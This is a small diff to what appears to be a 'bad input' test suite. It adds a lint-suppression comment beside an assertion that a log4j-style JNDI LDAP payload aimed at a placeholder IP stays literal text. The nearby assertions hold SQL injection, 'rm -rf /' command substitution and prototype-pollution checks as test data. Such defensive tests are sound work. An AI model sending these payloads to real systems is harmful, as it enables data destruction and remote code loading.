@@ -208,6 +208,7 @@ describe('bad input', () => {
     expect(f?.title).toBe(
       'x" OR 1=1 -- ; DROP TABLE cases; $(rm -rf /) `id` project = SEC AND text ~ "*" ORDER BY key',
     );
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile text is a literal log4j-style payload, not a template
     expect(f?.description).toContain('${jndi:ldap://192.0.2.1/a}');
     expect(Object.getPrototypeOf(f?.resource.tags)).toBe(Object.prototype);
     expect(Object.hasOwn(f?.resource.tags ?? {}, '__proto__')).toBe(false);
